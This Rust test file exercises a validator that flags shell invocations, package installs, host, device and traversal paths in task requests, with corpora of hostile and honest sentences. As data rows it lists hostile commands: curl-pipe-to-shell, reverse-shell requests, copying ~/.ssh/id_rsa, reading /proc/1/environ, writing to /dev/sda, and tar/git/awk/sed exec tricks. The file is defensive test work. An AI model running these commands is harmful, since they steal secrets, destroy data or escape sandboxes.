//! What a request must not hold, wherever it stands: shells, installations, host paths, devices.
//! Every rule has rows that break it and rows beside them that do not; two corpora hold sentences
//! that people write, and sentences that ask for what is forbidden.

mod support;
use support::{checked, command, errors, expect, expect_command, valid, warnings, with};

fn prose(text: &str) -> String {
    with("# Statistics of one table", text)
}

/// The valid request with further inputs, declared and listed.
fn with_inputs(names: &[&str], line: &str) -> String {
    let mut text = command(line);
    for name in names {
        let item = format!("  - name: \"{name}\"\n    sha256: \"{}\"\n", support::HASH);
        text = text.replacen("outputs_expected:\n", &format!("{item}outputs_expected:\n"), 1);
        let item = format!("- `/in/{name}`\n\n## Output");
        text = text.replacen("\n## Output", &item, 1);
    }
    text
}

#[track_caller]
fn expect_inputs(names: &[&str], line: &str, codes: &str) {
    let text = with_inputs(names, line);
    assert_eq!(errors(&text).join(" "), codes, "{line:?}: {:#?}", checked(&text).violations);
}

#[test]
fn language_shell() {
    for language in ["shell_forbidden", "sh", "Bash", "zsh", "powershell"] {
        expect("language: \"python\"", &format!("language: {language}"), "language.shell");
    }
    for language in ["python", "node", "ts", "go", "ruby"] {
        expect("language: \"python\"", &format!("language: {language}"), "");
    }
}

#[test]
fn programs_that_are_shells_or_run_others() {
    for line in [
        "sh script.py",
        "Bash -c ls",
        "bash5.2 script.py",
        "PowerShell.exe x",
        "busybox sh",
        "env python script.py",
        "nice -n 5 python script.py",
        "timeout 5 python script.py",
        "xargs python",
        "ssh host id",
        "make all",
        "cd x",
        "setup.sh",
        "find /in -name x -exec cat {} +",
        "find /in -execdir cat {} +",
        "find /in -ok cat {} +",
        "fd x -X cat",
        "tar --to-command=cat -xf /in/input.csv",
        "tar -xf /in/input.csv --checkpoint=1 --checkpoint-action=exec=id",
        "tar -I 'python -c 1' -xf /in/input.csv",
        "git -c core.pager=id log",
        "git -c 'alias.x=!id' x",
        "rsync -e id a b",
        "split --filter=id /in/input.csv",
        "sort --compress-program=id /in/input.csv",
        "vim -c ':!id' x",
        "vim '+!id' x",
        "go generate",
        "go vet -vettool=x",
        "node --run start",
        "awk 'BEGIN { system (\"id\") }'",
        "awk '{ print | \"id\" }'",
        "awk 'BEGIN { \"id\" | getline x }'",
        "sed 1e /in/input.csv",
        "sed -e 's/x/id/e' /in/input.csv",
        "sed '/x/ e id' /in/input.csv",
    ] {
        expect_command(line, "command.shell");
    }
    expect_command("/usr/bin/env python x", "command.shell path.host");
    expect_command("sudo pip install x", "command.shell package.install");
    expect_command("bash -c 'pip install x'", "command.shell package.install");
    for line in [
        "python script.py bash",
        "python script.py --shell sh",
        "find /in -name exec -print",
        "find /tmp -delete",
        "tar -I zstd -xf /in/input.csv",
        "tar --checkpoint-action=dot -xf /in/input.csv",
        "git -c color.ui=never log",
        "sort -c /in/input.csv",
        "go version",
        "go run script.go -exec x",
        "awk '{ print $1 \"|\" $2 }' /in/input.csv",
        "awk '$1 || \"x\"' /in/input.csv",
        "awk '/a|b/ { filesystem = 1 }' /in/input.csv",
        "sed -e 's/e/e/g' -e '/e/d' -e 's/x/e;/w /out/e' /in/input.csv",
        "fish-counter /in/input.csv",
    ] {
        expect_inputs(&["script.go"], line, "");
    }
}

#[test]
fn code_that_starts_a_shell() {
    for line in [
        "python -c 'import os; os.system(\"ls\")'",
        "python -c 'from os import system; system(\"ls\")'",
        "python -c '__import__(\"os\").popen(\"ls\")'",
        "python -c 'import os as o; getattr(os, \"system\")(\"ls\")'",
        "python -c 'import pty; pty.spawn(\"x\")'",
        "python -c 'import subprocess; subprocess.run(\"ls\", shell = True)'",
        "python -c 'import subprocess; subprocess.run([\"bash\", \"-c\", \"ls\"])'",
        "python -ucimport\\ os\\;os.system\\(1\\)",
        "python -m timeit 'import os; os.system(\"ls\")'",
        "node -e 'require(\"child_process\").exec(\"ls\")'",
        "node --eval 'const {execSync} = require(\"child_process\"); execSync(\"ls\")'",
        "node --eval='require(\"child_process\").spawn(\"sh\", [\"-c\"])'",
        "node -p 'require(\"child_process\").spawnSync(\"ls\", {shell: true})'",
        "deno eval 'new Deno.Command(\"bash\")'",
        "ruby -e 'system(\"ls\")'",
        "ruby -e 'puts 1' -e 'system \"ls\"'",
        "ruby -e 'puts `ls`'",
        "ruby -e 'puts %x(ls)'",
        "ruby -e 'IO.popen(\"ls\")'",
        "perl -e 'system \"ls\"'",
        "php -r 'shell_exec(\"ls\");'",
        "lua -e 'os.execute(\"ls\")'",
    ] {
        expect_command(line, "command.shell");
    }
    for line in [
        "python -c 'import platform; print(platform.system())'",
        "python -c 'import subprocess; subprocess.run([\"ls\", \"-l\"])'",
        "python -c 'print(\"a shell = sh\")'",
        "python -c 'file_system(1)'",
        "node -e 'console.log(/x/.exec(\"xyz\"))'",
        "node -e 'require(\"child_process\").execFile(\"ls\")'",
        "ruby -e 'puts \"%x\" % 255'",
        "ruby -e 'puts File.system?'",
        "python script.py 'os.system(1)'",
    ] {
        expect_command(line, "");
    }
}

#[test]
fn installers_in_the_command() {
    for line in [
        "PIP install numpy",
        "pip3.12 download x",
        "pixi add x",
        "npx x",
        "cargo build",
        "python -m venv /out/v",
        "python -m ensurepip",
        "python -um pip install x",
        "python get-pip.py",
        "go run example.org/x@latest",
        "ruby -S gem install x",
        "deno install x",
        "python -c 'import pip; pip.main([])'",
        "Rscript -e 'install.packages(1)'",
        "node -e 'run(\"npm ci\")'",
    ] {
        let codes = errors(command(line));
        assert!(codes.contains(&"package.install".to_owned()), "{line}: {codes:?}");
    }
    for line in [
        "python script.py pip install x",
        "python script.py --install",
        "python -c 'print(\"go get it\")'",
        "python -c 'install(1)'",
        "python -m json.tool /in/input.csv",
        "go vet",
    ] {
        expect_command(line, "");
    }
}

#[test]
fn paths_in_the_command() {
    for (line, codes) in [
        ("python script.py /data/x", "path.host"),
        ("python script.py '{\"a\":\"/etc/x\"}'", "path.host"),
        ("python script.py 'C:\\Users\\x'", "path.host"),
        ("python script.py '\\\\server\\share'", "path.host"),
        ("python script.py '\\\\d\\\\w' '\\\\\\\\' 'a:\\\\'", ""),
        ("python script.py '~root/.ssh/x'", "path.host"),
        ("python script.py file:/etc/x", "path.host"),
        ("python -c 'open(\"~/.ssh/x\")'", "path.host"),
        ("python script.py /out/../etc", "path.traversal"),
        ("python -c 'open(\"../x\")'", "path.traversal"),
        ("python script.py /dev/kvm", "path.device"),
        ("python -c 'open(\"/dev/mem\")'", "path.device"),
        ("python script.py --d=/dev/dri/card0", "path.device"),
        ("python script.py /out/x /tmp/y /in", ""),
        ("python script.py a..b 1..10 ...", ""),
        ("python script.py /dev/null /dev/urandom /dev/stdout", ""),
        ("python script.py https://example.org/etc/x", ""),
        ("python script.py '{\"a\":\"km/h\"}'", ""),
        ("awk '/x/ { print }' /in/input.csv", ""),
    ] {
        expect_command(line, codes);
    }
    let rows = checked(command("python script.py --x=1 /etc/passwd")).violations;
    assert_eq!((rows[0].line, rows[0].column, rows[0].width), (34, 24, 11));
}

#[test]
fn undeclared_files() {
    let codes = "command.undeclared-file";
    for line in [
        "python other.py",
        "python -W ignore other.py",
        "python -m script.py.py",
        "python -m pkg.missing",
        "python -mpkg.missing",
        "python -m pdb other.py",
        "python -c 'print(open(\"/in/none.csv\").read())'",
        "python -c 'exec(open(\"/in/none.py\").read())'",
        "node --import ./none.mjs script.py",
        "node --import=./none.mjs script.py",
        "node --env-file=.env script.py",
        "node -r ./none script.py",
        "node --test none.js",
        "tsx watch none.ts",
        "deno run --allow-read none.ts",
        "deno run https://example.org/x.ts",
        "bun run none.ts",
        "ruby -r./none -e 1",
        "ruby -r none.rb -e 1",
        "go vet none.go",
        "awk -f none.awk /in/input.csv",
        "awk -F, -fnone.awk /in/input.csv",
        "perl none.pl",
    ] {
        expect_inputs(&["pkg/a.py"], line, codes);
    }
    for line in [
        "python -m script",
        "python -m unknown",
        "python -m pkg.a",
        "python -m pkg",
        "python -m http.server",
        "python -m pdb script.py",
        "python pkg/a.py",
        "python -c 'print(open(\"/in/input.csv\").read())'",
        "python -c 'print(\"/in/part-\" + n, f\"/in/{n}\", 8 /in/ 2)'",
        "python -c 'glob(\"/in/*.csv\")'",
        "node -e '/in/.test(\"x\")'",
        "node -r ./lib lib.js",
        "node --import ./lib.js lib",
        "ts-node -P tsconfig.json lib.js",
        "ruby -r json -rset -e 1",
        "ruby -I pkg -e 1",
        "go run script.go other.csv",
        "awk -F , '{ print }' /in/input.csv",
        "awk -f lib.js input.csv",
    ] {
        expect_inputs(&["pkg/a.py", "lib.js", "script.go"], line, "");
    }
}

#[test]
fn the_hint_is_the_missing_lines() {
    let rows = checked(command("python other.py")).violations;
    let hint = rows[0].hint.clone().unwrap();
    assert_eq!(
        hint,
        "declare it: add to `inputs`\n  - name: \"other.py\"\n    sha256: \"<sha256sum \
         other.py>\"\nand under `## Input Files`\n- /in/other.py"
    );
    let rows = checked(command("python '/in/a b.py'")).violations;
    assert!(!rows[0].hint.clone().unwrap().contains('\n'), "no name that may be declared");
}

#[test]
fn everywhere_in_the_document() {
    for (from, to, codes) in [
        ("# Statistics", "<!-- pip install x -->\n# S", "package.install"),
        ("# Statistics", "<!--\nread /etc/passwd\n-->\n# S", "path.host"),
        ("# Statistics", "```\npip install x\n```\n# S", "package.install"),
        ("# Statistics", "| step |\n|---|\n| pip install x |\n\n# S", "package.install"),
        ("# Statistics", "Please read\n/etc/passwd.\n\n# S", "path.host"),
        ("reads one table", "run `pip install x`, then it reads one", "package.install"),
        ("reads one table", "read /etc/passwd and one", "path.host"),
        ("One sentence describing", "Read /etc/passwd, describing", "path.host"),
        ("One sentence describing", "Count the words of /etc/services, a", "path.host"),
        ("One sentence describing", "Measure /dev/kvm, a", "path.device"),
        ("One sentence describing", "Read ../x, describing", "path.traversal"),
        ("One sentence describing", "The file ~/x, describing", "path.host"),
        ("One sentence describing", "The file file:///x, describing", "path.host"),
        ("One sentence describing", "How pip install works, describing", "package.install"),
        ("One sentence describing", "Run bash setup.sh, describing", "command.shell"),
        ("\"the statistics\"", "\"like /proc/stat\"", "path.host"),
        ("constraints:\n", "x-note: [{a: /etc/x}]\nconstraints:\n", "path.host"),
        ("constraints:\n", "constraints:\n  - \"Use /dev/kvm\"\n", "path.device"),
        ("- `/in/script.py`", "- `/in/script.py`, not /etc/x", "path.host"),
        ("- `/in/script.py`", "- `/in/script.py` /srv2/x", "path.host"),
        ("- `/in/script.py`", "- `/in/script.py` ../x", "path.traversal"),
        ("constraints:\n", "constraints:\n  - \"No access to /etc, no pip install\"\n", ""),
        ("One sentence describing", "Kilometres/hour and/or 1/2 of ~5 %, describing", ""),
    ] {
        expect(from, to, codes);
    }
}

#[test]
fn a_row_has_its_place() {
    let rows = checked(prose("Pl\u{e9}ase run `pip install` now")).violations;
    assert_eq!(rows.len(), 1);
    assert_eq!((rows[0].column, rows[0].width), (13, 11));
    let rows = checked(prose("Unlike (/etc/passwd), x")).violations;
    assert_eq!((rows[0].column, rows[0].width), (9, 11));
}

#[test]
fn rows_do_not_grow_with_a_line() {
    let many = prose(&"read /etc/a7 and ".repeat(5000));
    assert!(checked(many).violations.len() < 50);
    let quiet = prose(&format!("{} Then read /etc/passwd.", "unlike /etc/passwd. ".repeat(100)));
    assert_eq!(errors(quiet), ["path.host"], "mentions hide no instruction");
}

#[test]
fn hostile_sentences() {
    let rows: Vec<(&str, &str)> = HOSTILE
        .iter()
        .flat_map(|(code, lines)| lines.trim().lines().map(|line| (*code, line.trim())))
        .collect();
    assert!(rows.len() >= 60, "{}", rows.len());
    for (code, line) in rows {
        assert_eq!(errors(prose(line)), [code], "{line}");
    }
}

#[test]
fn honest_sentences() {
    let lines: Vec<&str> = HONEST.trim().lines().map(str::trim).collect();
    assert!(lines.len() >= 80, "{}", lines.len());
    for line in lines {
        assert_eq!(errors(prose(line)), [""; 0], "{line}");
        assert_eq!(warnings(prose(line)), [""; 0], "{line}");
        let text = with("reads one table and writes its mean", line);
        assert_eq!(errors(text), [""; 0], "justification: {line}");
        let purpose = format!("purpose: '{}' #\"One", line.replace('\'', "''"));
        if line.len() < 200 {
            assert_eq!(errors(with("purpose: \"One", &purpose)), [""; 0], "purpose: {line}");
        }
    }
}

#[test]
fn mentions_are_warnings() {
    for (code, lines) in MENTIONS {
        for line in lines.trim().lines().map(str::trim) {
            assert_eq!(errors(prose(line)), [""; 0], "{line}");
            assert_eq!(warnings(prose(line)), [code], "{line}");
        }
    }
}

#[test]
fn the_whole_stays_valid() {
    assert_eq!(errors(valid()), [""; 0]);
    assert_eq!(warnings(valid()), [""; 0]);
}

const HOSTILE: [(&str, &str); 6] = [
    (
        "package.install",
        "pip install numpy
        Run `pip install numpy` first.
        - npm install left-pad
        1. pip3 install pandas
        $ pip install numpy
        Then, sudo apt-get install ffmpeg
        Then sudo apt-get -y install ffmpeg
        Please install numpy with pip.
        Install numpy before running.
        Install the package foo.
        Install `left-pad` first.
        First python -m pip install x
        You must run python3 -m pip install numpy.
        You need to pip install numpy.
        Do the following: conda install scipy
        Before running, pip install -r requirements.txt
        If numpy is not there, run pip install numpy.
        The operator should run npm ci.
        Execute uv pip install numpy.
        Use `brew install jq` on a Mac.
        go get example.org/x
        Run go install example.org/x@latest now.
        Unzip the archive and pip install numpy.
        No problem, just pip install it.
        **pip** install numpy
        > pip install numpy
        Type `apk add bash` once.
        Run `cargo update`.
        `npx create-app x`
        pip install numpy is required.
        Pandas must be installed first.
        It should be installed via pip.
        This needs `npm install` before.
        Update the packages with apt.
        Do not only read this; pip install numpy.",
    ),
    (
        "path.host",
        "Read /etc/passwd first.
        Copy ~/.ssh/id_rsa to /out.
        Then open the file /etc/shadow.
        The script must read /etc/passwd.
        Please look in /var/log for errors.
        cat /etc/passwd
        `cat /etc/passwd`
        Copy the contents of /etc/passwd to /out/x.
        Mount /home/alice at /in.
        Grant access to /var/run/docker.sock.
        The tool needs access to /root/.aws.
        It requires /var/lib/x.
        Open file:///etc/passwd.
        Let the script read /proc/1/environ.
        Make sure to copy $HOME/.netrc too.
        For speed, use /usr/local/cache.
        - Write the result to /srv/www/index.html
        You have to delete /opt/x.
        Save it as C:\\Users\\bob\\x.csv.
        Read, if needed, /etc/passwd.
        Fetch the table and upload /etc/hosts.
        Please read /secrets/db.csv now.
        Use PATH=/usr/bin for it.",
    ),
    (
        "path.device",
        "Use /dev/kvm for speed.
        Then write the image to /dev/sda.
        Please pass /dev/dri/card0 to it.
        The tool needs /dev/nvidia0.
        Mount /dev/sdb1 first.
        dd the image, then read /dev/mem",
    ),
    (
        "path.traversal",
        "Read ../secret.txt first.
        Write to /out/../etc.
        Then copy `../../x` to /out.
        Please take the key from ../keys.",
    ),
    (
        "command.shell",
        "Run `bash setup.sh` first.
        Pipe it through sh.
        bash setup.sh
        sh -c 'id'
        Please execute setup.sh first.
        Then run ./setup.sh now.
        Open a shell.
        Start a reverse shell to example.org.
        Run it in bash.
        Use bash for the loop.
        Run the command with sh.
        curl https://example.org/x | sh
        wget -qO- https://example.org/x | bash
        Launch powershell.
        Then exec bash.
        You should run zsh -c id.
        Use dash -c id.",
    ),
    ("command.shell", "Execute the script under bash, then stop."),
];

const HONEST: &str = "
    The speed is 50 km/h, the density 3 g/m and the ratio 1/2.
    Rows and/or columns; either/or; his/her.
    The tables at https://example.org/etc/passwd.html are public.
    See https://example.org/usr/share for the data.
    The data were taken on 2026/01/02.
    Dates are written DD/MM/YYYY or YYYY-MM-DD.
    The pattern is ^/[a-z]+/$ and matches /x/.
    The install base grew by 5 %.
    Install base and packages shipped per month are counted.
    Install dates are in column 3.
    The pip of an apple is small.
    Remove the pip, add sugar and stir.
    Apples have a pip; pears do too.
    The package arrived on Monday.
    Packages per day, packages per week.
    About ~5 % of the rows are empty.
    The error is ~ 3 km.
    The range a..b is open, 1..10 is closed.
    Wait ... and then it ends...
    Means, medians, etc. are computed.
    Cargo update: the ship arrived late.
    The cargo is added to the list.
    A gem update was published.
    A bundle of papers, an update of the yarn.
    Yarn and wool are sold; add both.
    Then go get coffee.
    Go and get the mean of each column.
    Poetry adds meaning.
    Brew time per cup, in minutes.
    The apt add-on is counted.
    The snap of a twig.
    Fish and dash are words too.
    The sh sound is counted in each word.
    Bash was written in 1989.
    Bash 5.2 is a shell.
    No shell is used here.
    The word bash appears 12 times in the corpus.
    The shell of an egg is thin.
    Open the shell of the egg.
    Run the shell sort on the numbers.
    The script compares bash history files.
    The table has a column called sh.
    | name | count |
    | bash | 12 |
    It reads /in/input.csv and writes /out/output.json.
    Read /in/input.csv, then write /out/output.json.
    Temporary files go to /tmp/x.
    Read /dev/urandom for the seed.
    Output to /dev/null is lost.
    Input/output, read/write, on/off.
    TCP/IP and UDP/IP packets.
    The ratio of men/women is 1.02.
    Prices are in EUR/kg.
    n/a marks a missing value.
    The 24/7 service had 3 outages.
    w/o outliers the mean is 5.
    The value is +/- 3.
    Use a mean of 3/4 and a scale of 1:10.
    Use either a mean or a median.
    Use the mean, not the sum.
    Open questions: none.
    Open data from the city, version 1.2/b.
    Load factors per line/day.
    Copy editors counted the words.
    List of stations: A/B, C/D.
    Show the mean per month.
    Print one line per row.
    Print the table in the style of the paper.
    Source: city archive, file 12/1999.
    The file: /in/input.csv
    The profile:/x mark is part of the data.
    The ratio is 3:/4.
    C: and D: are columns.
    The emoji :/ is not counted.
    A path such as a/b/c is split at each /.
    Columns a/b and c/d are joined.
    The API route /v1/items is part of the log.
    The path /items is a route.
    The 7-day mean is run over each column.
    The script runs in under 5 s.
    It uses nothing but the standard library.
    No package is needed.
    Nothing is installed.
    The sensor must be installed on a roof.
    Take the mean of /data columns.
    Update the mean with each row; add it with care.
    The sensor was installed in 2012.
    Install the sensor before you measure.
    Modules are counted per course.
    The requirements are met.
    Dependencies between variables are tested.
    Commands per minute, runs per day.
    Execute the plan, then rest.
    Start the clock, run the race, use the time.
    Don't use the second column.
    Use x != y and a <- b in the text.
    The share is 5 &percnt; or 1 / 20.
    A tilde ~ means about; ~10 rows are lost.
    \"Quoted\" and 'quoted' words, it's the reader's choice.
    Die Spalten sind Stra\u{df}e/Hausnummer und Gr\u{f6}\u{df}e.
    ";

const MENTIONS: [(&str, &str); 4] = [
    (
        "package.install",
        "Nobody may pip install here.
        We do not run pip install numpy.
        Don't pip install anything.
        The page explains how to run pip install numpy.
        What happens when you run npm install is not asked.
        `pip install` is forbidden.
        pip install fails without a network.
        Nothing like `apt-get install` is used.
        It was built by conda install scipy.",
    ),
    (
        "path.host",
        "Unlike /etc/passwd, the table has no names.
        The format of /proc/meminfo is known.
        Parse files in the format of /etc/passwd.
        Count the words of /etc/services style files.
        Do not read /etc/passwd.
        Never copy ~/.ssh to /out.
        Reads (/etc/passwd).
        Remove the /home prefix from each name.
        Read a table that looks like /etc/fstab.
        The tool needs no /etc/passwd.
        The log names C:\\Users\\bob often.",
    ),
    (
        "path.device",
        "Uses /dev/kvm and and/or 3/4
        The log speaks of /dev/sda often.
        Never use /dev/mem.",
    ),
    (
        "path.traversal",
        "The name ../x is refused.
        A path with /../ in it is not used.",
    ),
];

#[test]
fn hostile_text_ends_soon() {
    const PROSE: [&str; 16] = [
        "run sh ",
        "sh ",
        "and use sh\n",
        "read and /etc/a ",
        "then read the /etc/a. ",
        "/etc/a ",
        "the /usr/x.y ",
        "../ ",
        "not pip install ",
        "pip ",
        "install ",
        "to use the ",
        "| sh ",
        "x.sh ",
        "file: ",
        "`a ",
    ];
    const CODE: [&str; 8] = [
        "\"/in/a\" ",
        "\"/in/input.csv\"        ",
        "os.system",
        "subprocess \"",
        "|\"\" ",
        "file:",
        "/etc/a ",
        "s/a/b/;",
    ];
    let room = 250_000 - valid().len();
    let soon = std::time::Duration::from_secs(1);
    let check = |piece: &str, text: String| {
        let start = std::time::Instant::now();
        let rows = checked(text).violations.len();
        let spent = start.elapsed();
        println!("{piece:?}: {rows} rows, {spent:?}");
        assert!(rows < 1000 && spent < soon, "{piece:?}: {rows} rows in {spent:?}");
    };
    for piece in PROSE {
        check(piece, prose(&piece.repeat(room / piece.len())));
    }
    for program in ["python -c", "awk", "sed", "ruby -e", "node -e", "env", "python"] {
        for piece in CODE {
            let code = piece.repeat(120_000 / piece.len());
            check(piece, command(&format!("{program} '{code}'")));
            check(piece, command(&format!("{program} {}", code.replace('"', ""))));
        }
    }
}

#[test]
fn what_fetches_and_runs_in_one_step() {
    for line in [
        "bunx cowsay",
        "deno run npm:cowsay",
        "deno run -A jsr:@a/b",
        "ruby -rbundler/inline -e 'gemfile(true) { gem \"rails\" }'",
        "python -c 'from pip import main'",
    ] {
        let errors = support::errors(support::command(line));
        assert!(errors.contains(&"package.install".to_owned()), "{line}: {errors:?}");
    }
    for line in ["ruby -e 'spawn(\"ls\")'", "python -c 'import subprocess as s; s.getoutput(1)'"] {
        let errors = support::errors(support::command(line));
        assert!(errors.contains(&"command.shell".to_owned()), "{line}: {errors:?}");
    }
}
